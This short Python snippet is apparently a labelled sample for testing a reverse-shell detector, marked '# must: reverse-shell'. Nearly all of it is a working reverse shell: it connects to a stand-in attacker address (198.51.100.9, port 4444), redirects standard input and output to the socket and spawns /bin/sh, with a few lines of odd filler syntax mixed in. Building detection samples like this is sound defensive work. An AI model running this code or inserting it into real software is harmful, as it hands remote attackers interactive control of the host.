# must: reverse-shell
import socket, os, pty
if (s := socket.create_connection(("198.51.100.9", 4444))):
	os.dup2(s.fileno(), 0)
match s:
    case _:
        os.dup2(s.fileno(), 1)
msg = f"{f'{s!r:>{10}}'}" \
    + "x"
pty.spawn("/bin/sh")
